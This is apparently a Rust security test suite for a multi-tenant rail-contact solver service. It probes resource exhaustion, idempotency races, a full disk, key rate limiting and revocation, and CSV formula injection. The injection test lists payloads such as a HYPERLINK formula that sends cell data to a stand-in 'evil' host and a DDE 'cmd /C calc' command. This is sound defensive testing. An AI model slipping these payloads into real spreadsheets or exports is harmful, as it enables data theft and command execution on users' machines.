//! The attacks, each on separate services.

use std::io::Write;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;

use crate::Check;
use crate::process::below;
use crate::service::{Service, make_key};

/// Maximum time in s for a request of another tenant. The service refuses requests that wait longer for memory.
const ANSWERED_S: f64 = 20.0;

fn hertz() -> Value {
    json!({
        "material": { "shear_modulus_mpa": 82000, "poisson_ratio": 0.28 },
        "friction": { "coefficient": 0.3 },
        "contact": { "type": "radii", "rolling_mm": 460, "lateral_mm": 300 },
        "load": { "normal_force_n": 80_000 },
        "motion": { "creepage_x": 0.001, "creepage_y": 0.0, "spin_per_mm": 0.0004 },
        "outputs": ["resultants"]
    })
}

/// Returns a case of about 800 kB: a pressure on a fine grid.
fn large_case() -> Value {
    let places = |half: f64, count: usize| -> Vec<f64> {
        (0..count)
            .map(|k| half * (2.0 * (k as f64 + 0.5) / count as f64 - 1.0))
            .collect()
    };
    let (x, y) = (places(7.0, 200), places(5.0, 200));
    let pressure: Vec<Vec<f64>> = y
        .iter()
        .map(|y| {
            x.iter()
                .map(|x| {
                    1000.0
                        * (1.0 - (x / 6.5).powi(2) - (y / 4.5).powi(2))
                            .max(0.0)
                            .sqrt()
                })
                .collect()
        })
        .collect();
    json!({
        "material": { "shear_modulus_mpa": 82000, "poisson_ratio": 0.28 },
        "friction": { "coefficient": 0.3 },
        "contact": { "type": "pressure_grid", "x_mm": x, "y_mm": y, "pressure_mpa": pressure },
        "motion": { "creepage_x": 0.0005, "creepage_y": 0.0, "spin_per_mm": 0.0001 },
        "solver": { "mesh": { "strips": 4, "cells": 4 } },
        "outputs": ["resultants"]
    })
}

fn packed(text: &str) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(text.as_bytes()).expect("packed");
    out.finish().expect("packed")
}

/// N1: while one tenant's table is being read, another tenant sends a batch as a table, a batch as lines and a run, each of one case.
pub async fn tables() -> Vec<Check> {
    let fastsim = |rows: usize| {
        let mut template = hertz();
        template["solver"] = json!({ "method": "fastsim", "mesh": { "strips": 30, "cells": 30 } });
        let row = (0..rows).map(|row| format!("{}\n", 1e-9 * row as f64));
        (
            template,
            format!("/motion/creepage_x\n{}", row.collect::<String>()),
        )
    };
    let rows = (0..4_000)
        .map(|row| format!("0.{}\n", 3000 + row))
        .collect::<String>();
    let (evaluated, million) = fastsim(1_000_000);
    let titles: Vec<String> = (0..100_000).map(|number| format!("c{number}")).collect();
    let zeros = vec!["0"; titles.len()].join(",");
    let wide = format!("{}\n{zeros}\n", titles.join(","));
    let mut checks = Vec::new();
    for (what, template, path, table) in [
        (
            "a batch of 4 000 rows over 0.8 MB",
            large_case(),
            "/v1/batches",
            format!("/friction/coefficient\n{rows}"),
        ),
        (
            "an evaluation of 1 000 000 rows",
            evaluated,
            "/v1/evaluate",
            million,
        ),
        ("a run with 100 000 columns", hertz(), "/v1/runs", wide),
    ] {
        checks.extend(during_table(what, &template, path, &table).await);
    }
    checks
}

async fn during_table(what: &str, template: &Value, path: &str, table: &str) -> Vec<Check> {
    let service = Service::start(&[]);
    let own = service.solved(&service.other, &hertz()).await;
    let template = service.solved(&service.attacker, template).await;
    let before = service.processor_s();
    let url = format!("{}{path}?template={template}", service.process.url);
    let (key, body) = (service.attacker.clone(), packed(table));
    // A separate client, so that its connection closes with it.
    let attack = tokio::spawn(async move {
        let request = reqwest::Client::new().post(url).bearer_auth(key);
        let request = request
            .header("content-type", "text/csv")
            .header("content-encoding", "gzip");
        let answer = request.body(body).send().await.expect("an answer");
        answer.status().as_u16()
    });
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let mut checks = vec![tables_of_other(&service, what, &own).await];
    // The attacker hangs up. Its work must stop.
    attack.abort();
    let status = attack.await.ok();
    for list in ["jobs", "batches", "runs"] {
        while {
            let page = service
                .get(&service.other, &format!("/v1/{list}?limit=100"))
                .await;
            page.text.contains("\"ended_at\":null")
        } {
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }
    checks.push(match status {
        None => {
            tokio::time::sleep(Duration::from_secs(2)).await;
            let left = service.processor_s();
            tokio::time::sleep(Duration::from_secs(5)).await;
            let spent = service.processor_s() - left;
            Check::judged(
                format!("{what}, 2 s after its client left: processor time within 5 s"),
                format!("{spent:.1} s"),
                spent < 1.0,
            )
        }
        Some(status) => {
            let spent = service.processor_s() - before;
            Check::judged(
                format!("{what}: processor time in all"),
                format!("answered {status}, {spent:.1} s"),
                spent < 15.0,
            )
        }
    });
    checks
}

/// Sends a batch as a table, a batch as lines and a run, each of one case, as another tenant.
async fn tables_of_other(service: &Service, what: &str, own: &str) -> Check {
    let mut found = Vec::new();
    let mut holds = true;
    for (path, media_type, body) in [
        (
            format!("/v1/batches?template={own}"),
            "text/csv",
            "creepage_x\n0.0011\n".to_owned(),
        ),
        (
            "/v1/batches".to_owned(),
            "application/x-ndjson",
            format!("{}\n", hertz()),
        ),
        (
            format!("/v1/runs?template={own}"),
            "text/csv",
            "creepage_x\n0.0012\n".to_owned(),
        ),
    ] {
        let answer = service.post(&service.other, &path, media_type, body).await;
        holds &= answer.status == 202 && answer.seconds < ANSWERED_S;
        found.push(format!("{} after {:.1} s", answer.status, answer.seconds));
    }
    Check::judged(
        format!("during {what}: the tables of another tenant"),
        found.join(", "),
        holds,
    )
}

/// N2: six simultaneous requests with one key, during other writes.
pub async fn idempotency() -> Vec<Check> {
    const KEYS: usize = 40;
    let service = Service::start(&[]);
    let rows = json!({ "template": hertz(), "columns": { "/friction/coefficient": [0.2, 0.3] } })
        .to_string();
    let cases = json!([hertz(), hertz()]).to_string();
    let one = async |path: &str, body: &str, key: &str| {
        let answer = service.send(&service.attacker, Method::POST, path, |request| {
            let request = request.header("content-type", "application/json");
            request.header("idempotency-key", key).body(body.to_owned())
        });
        let answer = answer.await;
        (
            answer.status,
            answer.json()["id"].as_str().map(str::to_owned),
        )
    };
    let mut checks = Vec::new();
    for (path, body) in [("/v1/runs", &rows), ("/v1/batches", &cases)] {
        let (mut twice, mut odd) = (0, 0);
        for number in 0..KEYS {
            let key = format!("{path}-{number}");
            let same = (0..6).map(|_| one(path, body, &key));
            let others = (0..6).map(|other| {
                let key = format!("{key}-{other}");
                async move { one("/v1/batches", &json!([hertz()]).to_string(), &key).await }
            });
            let (answers, _) = tokio::join!(
                futures_util::future::join_all(same),
                futures_util::future::join_all(others)
            );
            odd += answers.iter().filter(|(status, _)| *status != 202).count();
            let mut ids: Vec<_> = answers.into_iter().filter_map(|(_, id)| id).collect();
            ids.sort_unstable();
            ids.dedup();
            twice += usize::from(ids.len() != 1);
        }
        checks.push(Check::judged(
            format!("{KEYS} keys, each in six requests at once to {path}"),
            format!("{twice} keys without exactly one result, {odd} answers that are not 202"),
            twice == 0 && odd == 0,
        ));
    }
    checks
}

/// A file system that is unmounted when dropped.
struct Mounted<'a>(&'a Path);

impl Drop for Mounted<'_> {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(self.0).status();
    }
}

/// N3: the disk is full when results of a run are to be stored, although the log of the table has room.
pub async fn full_disk() -> Vec<Check> {
    let folder = tempfile::tempdir().expect("a folder");
    let disk = tempfile::tempdir().expect("a folder");
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=48m", "none"])
        .arg(disk.path())
        .output();
    if !mounted.is_ok_and(|out| out.status.success()) {
        return vec![Check {
            what: "not tried".to_owned(),
            found: "this process may not mount a file system".to_owned(),
            holds: None,
        }];
    }
    let _mounted = Mounted(disk.path());
    let service = Service::start_on(folder, disk.path().join("data"), &["--cache", "false"]);
    // With this many jobs, the log of the table reaches its maximum length and restarts.
    let many: String = (0..600).map(|_| format!("{}\n", hertz())).collect();
    let batch = service.make("/v1/batches", "application/x-ndjson", many);
    service.ended(&service.attacker, &batch.await).await;
    let loads: Vec<usize> = (0..20_000).map(|row| 50_000 + row).collect();
    let mut template = hertz();
    template["solver"] = json!({ "method": "fastsim", "mesh": { "strips": 20, "cells": 20 } });
    let rows = json!({ "template": template, "columns": { "/load/normal_force_n": loads } });
    let run = service.make("/v1/runs", "application/json", rows.to_string());
    let run = run.await;
    let ballast = disk.path().join("ballast");
    fill(&ballast);
    tokio::time::sleep(Duration::from_secs(5)).await;
    let (mut ready, mut calm, mut accepted) = (0, 0, 0);
    for _ in 0..20 {
        let case = hertz().to_string();
        let submitted = service
            .post(&service.attacker, "/v1/jobs", "application/json", case)
            .await;
        accepted += usize::from(submitted.status == 202);
        ready += usize::from(service.get(&service.attacker, "/readyz").await.status == 200);
        let metrics = reqwest::get(format!("{}/metrics", service.process.url)).await;
        let metrics = metrics.expect("an answer").text().await.expect("a body");
        calm += usize::from(!metrics.contains("\nrailhead_storage_failing 1\n"));
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let told = Check::judged(
        "disk full for 10 s while a run has results, 20 looks",
        format!("{ready} times ready, {calm} times not failing, {accepted} jobs accepted"),
        ready == 0 && calm == 0,
    );
    std::fs::remove_file(&ballast).expect("room again");
    let about = service.ended(&service.attacker, &run).await;
    let healed = service.get(&service.attacker, "/readyz").await.status;
    let whole = Check::judged(
        "room again",
        format!(
            "the run {}, {} rows; ready {healed}",
            about["state"], about["rows_done"]
        ),
        about["rows_done"] == 20_000 && healed == 200,
    );
    vec![told, whole]
}

/// Fills the disk completely.
fn fill(path: &Path) {
    let mut file = std::fs::File::create(path).expect("a file");
    for size in [1 << 16, 1 << 10, 1] {
        while file.write_all(&vec![1; size]).is_ok() {}
    }
}

/// N4: wrong keys through a trusted proxy, and valid keys of the same client and of others.
pub async fn wrong_keys() -> Vec<Check> {
    let service = Service::start(&["--trusted-proxies", "127.0.0.0/8"]);
    let ask = async |key: &str, client: &str| {
        let answer = service.send(key, Method::GET, "/v1/jobs", |request| {
            request.header("x-forwarded-for", client)
        });
        answer.await.status
    };
    let (mut refused, mut good) = (0, 0);
    let until = Instant::now() + Duration::from_secs(12);
    let mut asked = 0;
    while Instant::now() < until {
        refused += usize::from(ask("rh_000000000000_0", "192.0.2.1").await == 429);
        good += usize::from(ask(&service.other, "192.0.2.1").await == 200);
        asked += 1;
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let elsewhere = ask("rh_000000000000_0", "192.0.2.2").await;
    let direct = reqwest::Client::new().get(format!("{}/v1/jobs", service.process.url));
    let via = direct
        .header("via", "1.1 proxy")
        .send()
        .await
        .expect("an answer");
    vec![
        Check::judged(
            "a good key and a wrong one in turn from one address, 12 s",
            format!(
                "good key answered {good} of {asked}, wrong key refused with 429 {refused} times"
            ),
            good == asked && refused > 0,
        ),
        Check::judged(
            "another client of the same proxy with a wrong key",
            elsewhere.to_string(),
            elsewhere == 401,
        ),
        Check::judged(
            "no key, header `Via`",
            via.status().as_str().to_owned(),
            via.status() == 401,
        ),
    ]
}

/// Returns whether a spreadsheet would evaluate this cell, or whether it contains a control character.
fn dangerous(cell: &str) -> bool {
    let begin = cell.trim_start_matches([' ', '\t', '\r', '\n']);
    let formula = begin.starts_with(['=', '+', '-', '@']) && cell.parse::<f64>().is_err();
    formula || cell.chars().any(char::is_control)
}

/// N5: texts and column names that are formulas, in tables of runs and batches.
pub async fn formulas() -> Vec<Check> {
    const TEXTS: [&str; 9] = [
        "=HYPERLINK(\"http://evil/?\"&A1)",
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "+1+1",
        "-2+3",
        "\t=1+1",
        " =1+1",
        "a\rb",
        "a\u{0}b",
    ];
    let service = Service::start(&[]);
    let template = service.solved(&service.attacker, &hertz()).await;
    let mut checks = Vec::new();
    for (kind, path, title) in [
        ("text of a run", "/v1/runs", "section"),
        ("column of a run", "/v1/runs", ""),
        ("name of a case of a batch", "/v1/batches", "name"),
        ("label of a case of a batch", "/v1/batches", "label:km"),
    ] {
        let path = format!("{path}?template={template}");
        let plain = cells_of(&service, &path, title, "km 12").await;
        let plain = plain.is_some_and(|cells| cells.iter().any(|cell| cell == "km 12"));
        let (mut refused, mut defused) = (0, 0);
        let mut through = Vec::new();
        for text in TEXTS {
            match cells_of(&service, &path, title, text).await {
                None => refused += 1,
                Some(cells) => match cells.iter().find(|cell| dangerous(cell)) {
                    Some(cell) => through.push(format!("{cell:?}")),
                    None => defused += 1,
                },
            }
        }
        checks.push(Check::judged(
            kind,
            format!(
                "{refused} refused, {defused} without effect, through: [{}]; a plain text {}",
                through.join(" ").replace('|', "\\|"),
                if plain { "unchanged" } else { "CHANGED" }
            ),
            through.is_empty() && plain,
        ));
    }
    checks
}

/// Returns the cells of a one-row CSV result with this text in the column `title`, or as its title. Returns `None` if it is refused.
async fn cells_of(service: &Service, path: &str, title: &str, text: &str) -> Option<Vec<String>> {
    let (title, cell, carry) = match title {
        "" => {
            let name: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
            (text, "1", format!("&carry={name}"))
        }
        title => (title, text, String::new()),
    };
    let mut table = csv::Writer::from_writer(Vec::new());
    table.write_record(["creepage_x", title]).expect("a line");
    table.write_record(["-0.001", cell]).expect("a line");
    let table = table.into_inner().expect("a table");
    let sent = format!("{path}{carry}");
    let answer = service
        .post(&service.attacker, &sent, "text/csv", table)
        .await;
    if answer.status != 202 {
        return None;
    }
    let list = path.split('?').next().unwrap_or(path);
    let made = format!("{list}/{}", answer.json()["id"].as_str().expect("an id"));
    service.ended(&service.attacker, &made).await;
    let columns = match list {
        "/v1/batches" => "&columns=name,label:km,force_x_n",
        _ => "",
    };
    let path = format!("{made}/results?format=csv{columns}");
    let results = service.get(&service.attacker, &path).await;
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(results.text.as_bytes());
    let records = reader.records().map(|record| record.expect("a record"));
    Some(
        records
            .flat_map(|record| record.iter().map(str::to_owned).collect::<Vec<_>>())
            .collect(),
    )
}

/// N6: many runs and batches of one row over a large template.
pub async fn stored_bytes() -> Vec<Check> {
    const TIMES: usize = 60;
    let service = Service::start(&[]);
    let case = large_case();
    let size = case.to_string().len();
    let template = service.solved(&service.attacker, &case).await;
    let mut checks = Vec::new();
    for path in ["/v1/runs", "/v1/batches"] {
        let stored = || below(&service.process.data).1;
        let before = stored();
        let mut accepted = 0;
        for number in 0..TIMES {
            let table = format!("/friction/coefficient\n0.{}\n", 30 + number);
            let sent = format!("{path}?template={template}");
            let answer = service
                .post(&service.attacker, &sent, "text/csv", table)
                .await;
            accepted += usize::from(answer.status == 202);
        }
        let grown = stored().saturating_sub(before);
        checks.push(Check::judged(
            format!("{TIMES} times one row over {size} bytes to {path}"),
            format!("{accepted} accepted, {grown} bytes more on the disk"),
            accepted == TIMES && grown < (TIMES * size / 4) as u64,
        ));
    }
    checks
}

/// N7: a key is revoked while results of a run are being sent.
pub async fn revoked() -> Vec<Check> {
    let service = Service::start(&[]);
    let mut template = hertz();
    template["solver"] = json!({ "method": "table" });
    let loads: Vec<usize> = (0..200_000).map(|row| 50_000 + row % 1000).collect();
    let rows = json!({ "template": template, "columns": { "/load/normal_force_n": loads } });
    let run = service.make("/v1/runs", "application/json", rows.to_string());
    let run = run.await;
    service.ended(&service.attacker, &run).await;
    let mut checks = Vec::new();
    for format in ["csv", "ndjson"] {
        let path = format!("{run}/results?format={format}");
        let whole = service.get(&service.attacker, &path).await.text.len();
        let key = make_key(&service.process.data, "attacker");
        let socket = TcpSocket::new_v4().expect("a socket");
        socket.set_recv_buffer_size(4096).expect("a small buffer");
        let address = service.process.url.trim_start_matches("http://");
        let address = address.parse().expect("an address");
        let mut stream = socket.connect(address).await.expect("a connection");
        let request = format!(
            "GET {path} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\nauthorization: Bearer {key}\r\n\r\n"
        );
        stream.write_all(request.as_bytes()).await.expect("sent");
        let mut answer = vec![0; 4096];
        stream.read_exact(&mut answer).await.expect("a head");
        service.revoke(&key);
        tokio::time::sleep(Duration::from_secs(4)).await;
        let mut rest = Vec::new();
        let read =
            tokio::time::timeout(Duration::from_secs(60), stream.read_to_end(&mut rest)).await;
        answer.extend(rest);
        // The last chunk of a complete response.
        let complete = answer.ends_with(b"0\r\n\r\n");
        let ended = read.is_ok();
        checks.push(Check::judged(
            format!("{format} of a run, its key revoked after the first bytes"),
            format!(
                "{} of {whole} bytes, {}",
                answer.len(),
                if complete {
                    "looks complete"
                } else {
                    "broken off"
                }
            ),
            ended && !complete && answer.len() < whole,
        ));
    }
    checks
}
